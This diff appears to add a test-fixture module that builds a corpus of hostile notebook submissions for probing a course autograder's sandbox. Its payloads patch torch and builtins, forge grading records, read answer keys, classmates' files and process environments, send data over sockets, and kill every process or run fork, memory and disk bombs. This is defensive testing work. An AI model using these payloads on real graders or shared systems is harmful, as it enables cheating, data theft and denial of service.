@@ -1,0 +1,441 @@
+"""The project's hostile corpus: submissions that attack the grader, each with the same submission without its
+payload (its base), so the test can say the attack gained nothing.
+
+A submission is the release notebook with its solution cells filled (`ref`: the instructor's solutions,
+`blank`: untouched, `wrong`: a known mistake from the mutation catalogue), then changed by the attack: a cell
+of student code added after a solution cell, or an edit of the notebook file itself.
+"""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+
+from course_grader.demo import reference_code
+from course_mutation import catalogue
+
+Q1, Q3 = "Q1_bn_learns_and_measures", "Q3_batchnorm"
+
+
+@dataclass
+class Attack:
+    """One hostile submission: what it does, where, and what the test checks besides the common checks."""
+
+    name: str
+    notebook: str
+    base: str  # ref, blank, wrong, or init (Q3: the reference __init__, a forward that raises)
+    code: str = ""  # a cell of student code added after `after`
+    after: str = ""  # the solution cell's grade_id the code cell follows
+    edit: Callable[[nbformat.NotebookNode], None] | None = None  # an edit of the notebook file
+    flagged: str = ""  # a phrase the student's reasons must contain (the grader noticed)
+    prints_found: bool = False  # the payload prints {"found": [...]}: what it could read must be empty
+    disrupts: bool = False  # attacks classmates: graded next to one
+
+
+WRONG = {Q3: "unbiased_variance_for_output", Q1: "unbiased_variance"}
+
+
+def notebook(release: Path, source: Path, name: str, base: str) -> nbformat.NotebookNode:
+    """The release notebook `name` with its solutions filled as `base` says."""
+    nb = nbformat.read(release / f"{name}.ipynb", as_version=4)
+    if base == "blank":
+        return nb
+    src = {c.metadata["nbgrader"]["grade_id"]: c for c in nbformat.read(source / f"{name}.ipynb", as_version=4).cells
+           if c.metadata.get("nbgrader", {}).get("grade_id")}
+    variant = None
+    if base == "init":  # the reference layer without its forward pass
+        for cell in nb.cells:
+            if cell.metadata.get("nbgrader", {}).get("grade_id") == "batchnorm":
+                code = reference_code(src["batchnorm"].source)
+                cell.source = code[:code.index("    def forward")] + (
+                    "    def forward(self, x):\n        raise NotImplementedError()\n")
+        return nb
+    if base == "wrong":
+        question = name.split("_")[0]
+        variant = next(v for v in catalogue()[question] if v.name == WRONG[name])
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("solution") and cell.cell_type == "code":
+            code = src[meta["grade_id"]].source
+            if variant is not None and variant.solution == meta["grade_id"]:
+                code = variant.source(code)
+            cell.source = reference_code(code)
+        elif meta.get("solution"):
+            cell.source = "My answer."
+    return nb
+
+
+def build(attack: Attack, release: Path, source: Path) -> nbformat.NotebookNode:
+    """The attack's submission."""
+    nb = notebook(release, source, attack.notebook, attack.base)
+    if attack.code:
+        index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == attack.after)
+        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(attack.code))
+    if attack.edit:
+        attack.edit(nb)
+    return nb
+
+
+def _test_cells(nb) -> list:
+    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
+            and not c.metadata["nbgrader"].get("solution")]
+
+
+def _edit_tests_to_pass(nb) -> None:
+    for cell in _test_cells(nb):
+        cell.source = "pass"
+
+
+def _claim_points(nb) -> None:
+    """Make the solution cell a graded cell worth 50 points, and add a new graded cell that always passes."""
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("solution") and cell.cell_type == "code":
+            meta.update(grade=True, points=50)
+    extra = nbformat.v4.new_code_cell("pass")
+    extra.metadata["nbgrader"] = {"grade": True, "grade_id": "test_free_points", "locked": True, "points": 100,
+                                  "schema_version": 3, "solution": False, "cell_type": "code"}
+    nb.cells.append(extra)
+
+
+def _prefill_outputs(nb) -> None:
+    """Test cells carrying a 'Passed.' output and a forged record bundle before grading starts."""
+    for cell in _test_cells(nb):
+        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="Passed.\n"),
+                        nbformat.v4.new_output("display_data", data={
+                            "application/vnd.normalization-course.record+json": {
+                                "test": cell.metadata["nbgrader"]["grade_id"], "version": 1, "records": {}}})]
+        cell.execution_count = 1
+
+
+def _bash_kernel(nb) -> None:
+    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
+
+
+def _delete_tests(nb) -> None:
+    keep = [c for c in nb.cells if c not in _test_cells(nb)]
+    nb.cells = keep
+
+
+READ = '''
+import json, os, glob
+found = []
+def look(path):
+    try:
+        with open(path, 'rb') as f:
+            if f.read(64):
+                found.append(path)
+    except OSError:
+        pass
+'''
+
+
+def corpus(root: Path, class_dir: Path, other_checkout: Path, port: int) -> list[Attack]:
+    """Every attack, with the paths and the port it aims at baked into its code."""
+    tamper = "tampering"
+    return [
+        # ---- in-kernel tampering: only the right values earn points ----
+        Attack("input-transformer", Q3, "blank", after="batchnorm", flagged=tamper, code='''
+ip = get_ipython()
+ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"] if "q3." in "".join(lines) else lines)
+'''),
+        Attack("ast-transformer", Q3, "blank", after="batchnorm", flagged=tamper, code='''
+import ast
+class Empty(ast.NodeTransformer):
+    def visit_Module(self, node):
+        return ast.Module(body=[ast.Pass()], type_ignores=[]) if "q3" in ast.dump(node) else node
+get_ipython().ast_transformers.append(Empty())
+'''),
+        Attack("forged-records-hook", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
+from IPython.display import display
+def forge(result):
+    display({"application/vnd.normalization-course.record+json": {"test": "test_train_mode_output", "version": 1,
+             "records": {"fresh": 1.0}}}, raw=True)
+get_ipython().events.register("post_run_cell", forge)
+'''),
+        Attack("fake-probe-module", Q3, "blank", after="batchnorm", flagged=tamper, code='''
+import types, course_recorder
+course_recorder.q3 = types.SimpleNamespace(**{name: (lambda *a, **k: None) for name in (
+    "parameters_and_buffers", "train_mode_output", "eval_mode_output", "running_statistics",
+    "eval_leaves_buffers_alone", "gradients_probe", "buffers_without_history", "clear_errors", "training_curve")})
+'''),
+        Attack("sys-modules", Q3, "blank", after="batchnorm", flagged=tamper, code='''
+import sys, types
+sys.modules["course_recorder.q3"] = types.ModuleType("course_recorder.q3")
+'''),
+        Attack("recorder-patched", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
+from course_recorder import wire
+real = wire.encode
+wire.encode = lambda value, depth=0: real(0.0)
+'''),
+        Attack("torch-patched", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
+import torch
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda self, other: True
+'''),
+        Attack("builtins-patched", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
+import builtins
+builtins.isinstance = lambda obj, cls: True
+'''),
+        Attack("settrace", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
+import sys
+def tracer(frame, event, arg):
+    if frame.f_code.co_name == "put" and event == "call":
+        frame.f_locals["value"] = 0.0
+    return tracer
+sys.settrace(tracer)
+'''),
+        Attack("hook-prints-hidden-cells", Q3, "ref", after="batchnorm", flagged=tamper, code='''
+get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
+'''),
+        Attack("forged-bundle-from-solution", Q3, "blank", after="batchnorm", code='''
+from IPython.display import display
+for test in ("test_parameters_and_buffers", "test_train_mode_output", "test_clear_errors"):
+    display({"application/vnd.normalization-course.record+json": {"test": test, "version": 1, "records": {}}},
+            raw=True)
+'''),
+        Attack("rigged-tensor", Q3, "init", after="batchnorm", code='''
+class Rigged(torch.Tensor):
+    def __eq__(self, other):
+        return True
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+class BatchNorm(nn.Module):
+    def __init__(self, nf, mom=0.1, eps=1e-5):
+        super().__init__()
+        self.nf, self.mom, self.eps = nf, mom, eps
+        self.mults = nn.Parameter(torch.ones(nf, 1, 1))
+        self.adds = nn.Parameter(torch.zeros(nf, 1, 1))
+        self.register_buffer("means", torch.zeros(1, nf, 1, 1))
+        self.register_buffer("vars", torch.ones(1, nf, 1, 1))
+    def forward(self, x):
+        return torch.zeros_like(x).as_subclass(Rigged)
+'''),
+        Attack("delegation-obfuscated", Q3, "init", after="batchnorm", code='''
+class BatchNorm(nn.Module):
+    def __init__(self, nf, mom=0.1, eps=1e-5):
+        super().__init__()
+        self.nf, self.mom, self.eps = nf, mom, eps
+        self.mults = nn.Parameter(torch.ones(nf, 1, 1))
+        self.adds = nn.Parameter(torch.zeros(nf, 1, 1))
+        self.register_buffer("means", torch.zeros(1, nf, 1, 1))
+        self.register_buffer("vars", torch.ones(1, nf, 1, 1))
+    def forward(self, x):
+        norm = getattr(F, "batch" + "_norm")
+        return norm(x, self.means.view(-1), self.vars.view(-1), self.mults.view(-1), self.adds.view(-1),
+                    self.training, self.mom, self.eps)
+'''),
+        Attack("delegation-captured-early", Q3, "init", after="batchnorm", code='''
+_norm = F.batch_norm
+class BatchNorm(nn.Module):
+    def __init__(self, nf, mom=0.1, eps=1e-5):
+        super().__init__()
+        self.nf, self.mom, self.eps = nf, mom, eps
+        self.mults = nn.Parameter(torch.ones(nf, 1, 1))
+        self.adds = nn.Parameter(torch.zeros(nf, 1, 1))
+        self.register_buffer("means", torch.zeros(1, nf, 1, 1))
+        self.register_buffer("vars", torch.ones(1, nf, 1, 1))
+    def forward(self, x):
+        return _norm(x, self.means.view(-1), self.vars.view(-1), self.mults.view(-1), self.adds.view(-1),
+                     self.training, self.mom, self.eps)
+'''),
+        # ---- reading the answer key, other students, the grader ----
+        Attack("read-judge-and-source", Q1, "ref", after="channel_stats", prints_found=True, code=READ + f'''
+for pattern in ("{root}/course_judge/*.py", "{root}/source/*/*.ipynb", "{root}/gradebook.db", "{root}/authoring/*.py",
+                "{root}/course_mutation/*.py", "{root}/tests/*.py"):
+    for path in glob.glob(pattern):
+        look(path)
+try:
+    import course_judge
+    found.append("import course_judge")
+except ImportError:
+    pass
+print(json.dumps({{"found": found}}))
+'''),
+        Attack("read-classmates", Q1, "ref", after="channel_stats", prints_found=True, code=READ + f'''
+for path in glob.glob("{class_dir}/*/normalization/*.ipynb"):
+    look(path)
+print(json.dumps({{"found": found}}))
+'''),
+        Attack("read-other-checkout", Q1, "ref", after="channel_stats", prints_found=True, code=READ + f'''
+for path in glob.glob("{other_checkout}/**/*", recursive=True):
+    look(path)
+print(json.dumps({{"found": found}}))
+'''),
+        Attack("read-grader-processes", Q1, "ref", after="channel_stats", prints_found=True, code=READ + '''
+for pid in os.listdir("/proc"):
+    for part in ("cmdline", "environ"):
+        try:
+            text = open(f"/proc/{pid}/{part}", "rb").read()
+        except OSError:
+            continue
+        if b"hunter2" in text or b"course-grade-" in text or b"/class/" in text:
+            found.append(f"/proc/{pid}/{part}")
+if "hunter2" in str(os.environ):
+    found.append("environ")
+print(json.dumps({"found": found}))
+'''),
+        Attack("walk-the-filesystem", Q1, "ref", after="channel_stats", prints_found=True, code=READ + '''
+import sys
+installed = tuple(os.path.realpath(p) for p in (sys.prefix, sys.base_prefix))  # the environment's own files
+for top, dirs, files in os.walk("/", onerror=lambda e: None):
+    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
+    if top.startswith(installed):
+        continue
+    for f in files:
+        if f.endswith((".ipynb", ".db")) or "course_judge" in top or "gradebook" in f or top.endswith("source"):
+            found.append(os.path.join(top, f))
+print(json.dumps({"found": found[:20]}))
+'''),
+        # ---- writing outside its own folders ----
+        Attack("write-everywhere", Q1, "ref", after="channel_stats", prints_found=True, code=f'''
+import json, os
+found = []
+for path in ("/tmp/planted", "/var/tmp/planted", "/dev/shm/planted", "{root}/course_lib/planted.py",
+             "{root}/release/planted", "{class_dir}/planted", "{root}/planted", os.path.expanduser("~/planted")):
+    try:
+        open(path, "w").write("x")
+        if not path.startswith(os.path.expanduser("~")) and not path.startswith(("/tmp", "/var/tmp", "/dev/shm")):
+            found.append(path)
+    except OSError:
+        pass
+print(json.dumps({{"found": found}}))
+'''),
+        # ---- the network ----
+        Attack("network", Q1, "ref", after="channel_stats", prints_found=True, code=f'''
+import json, socket
+found = []
+for host in ("127.0.0.1", "10.0.0.1", "8.8.8.8"):
+    try:
+        s = socket.create_connection((host, {port}), timeout=2)
+        s.sendall(b"the answer key")
+        found.append(host)
+    except OSError:
+        pass
+print(json.dumps({{"found": found}}))
+'''),
+        # ---- classmates graded at the same time ----
+        Attack("stop-everyone", Q1, "ref", after="channel_stats", disrupts=True, code='''
+import os, signal, time
+end = time.time() + 12
+while time.time() < end:
+    for pid in os.listdir("/proc"):
+        if pid.isdigit() and int(pid) != os.getpid():
+            try:
+                os.kill(int(pid), signal.SIGSTOP)
+            except OSError:
+                pass
+    time.sleep(0.2)
+'''),
+        Attack("kill-everyone", Q1, "ref", after="channel_stats", disrupts=True, code='''
+import os, signal, time
+end = time.time() + 8
+while time.time() < end:
+    for pid in os.listdir("/proc"):
+        if pid.isdigit() and int(pid) not in (os.getpid(), 1):
+            try:
+                os.kill(int(pid), signal.SIGKILL)
+            except OSError:
+                pass
+    time.sleep(0.2)
+'''),
+        Attack("daemon", Q1, "ref", after="channel_stats", disrupts=True, code='''
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import os, signal, time\\ntime.sleep(20)\\nos.kill(-1, signal.SIGKILL)"],
+                 start_new_session=True)
+'''),
+        # ---- edits of the notebook file ----
+        Attack("tests-edited-to-pass", Q1, "blank", edit=_edit_tests_to_pass, flagged="edited (restored)"),
+        Attack("points-claimed-in-metadata", Q1, "blank", edit=_claim_points),
+        Attack("outputs-prefilled", Q1, "blank", edit=_prefill_outputs),
+        Attack("bash-kernel", Q1, "ref", edit=_bash_kernel),
+        Attack("tests-deleted", Q1, "blank", edit=_delete_tests, flagged="was deleted (restored)"),
+        # ---- bombs ----
+        Attack("time-bomb", Q1, "ref", after="channel_stats", flagged="time limit", code="while True:\n    pass\n"),
+        Attack("memory-bomb", Q1, "ref", after="channel_stats", disrupts=True, code='''
+hoard = []
+while True:
+    hoard.append(bytearray(200 << 20))
+'''),
+        Attack("disk-bomb", Q1, "ref", after="channel_stats", code='''
+with open("/tmp/fill", "wb") as f:
+    while True:
+        f.write(b"0" * (16 << 20))
+'''),
+        Attack("output-bomb", Q1, "ref", after="channel_stats", code='''
+for i in range(200000):
+    print("spam", i)
+'''),
+        Attack("fork-bomb", Q1, "ref", after="channel_stats", disrupts=True, code='''
+import os, time
+children = 0
+try:
+    while True:
+        if os.fork() == 0:
+            time.sleep(60)
+            os._exit(0)
+        children += 1
+except OSError:
+    pass
+print(children)
+'''),
+        Attack("thread-bomb", Q1, "ref", after="channel_stats", code='''
+import threading, time
+threads = []
+try:
+    while True:
+        t = threading.Thread(target=time.sleep, args=(60,), daemon=True)
+        t.start()
+        threads.append(t)
+except RuntimeError:
+    pass
+print(len(threads))
+'''),
+    ]
+
+
+@dataclass
+class Student:
+    """One submission of the hostile class: an attack, a base, or a classmate (a correct base)."""
+
+    name: str
+    notebook: str
+    base: str
+    attack: Attack | None = None
+    expected_base: str = ""  # the student whose points bound (or equal) this one's
+    notes: list[str] = field(default_factory=list)
+
+
+def class_of(attacks: list[Attack]) -> list[Student]:
+    """The class in grading order: each base once, and a classmate right after every disruptive attack."""
+    students: list[Student] = []
+    bases = {}
+    for attack in attacks:
+        key = f"base-{attack.notebook.split('_')[0].lower()}-{attack.base}"
+        if key not in bases:
+            bases[key] = Student(key, attack.notebook, attack.base)
+    students += bases.values()
+    for i, attack in enumerate(attacks):
+        key = f"base-{attack.notebook.split('_')[0].lower()}-{attack.base}"
+        students.append(Student(f"h{i:02d}-{attack.name}", attack.notebook, attack.base, attack, key))
+        if attack.disrupts:
+            students.append(Student(f"h{i:02d}z-classmate", attack.notebook, "ref", None,
+                                    f"base-{attack.notebook.split('_')[0].lower()}-ref"))
+    return students
+
+
+def write_class(students: list[Student], attacks_root: Path, release: Path, source: Path) -> None:
+    """Write every submission into attacks_root/<student>/normalization/<notebook>.ipynb."""
+    for student in students:
+        folder = attacks_root / student.name / "normalization"
+        folder.mkdir(parents=True)
+        nb = build(student.attack, release, source) if student.attack else notebook(release, source, student.notebook,
+                                                                                    student.base)
+        nbformat.write(copy.deepcopy(nb), folder / f"{student.notebook}.ipynb")
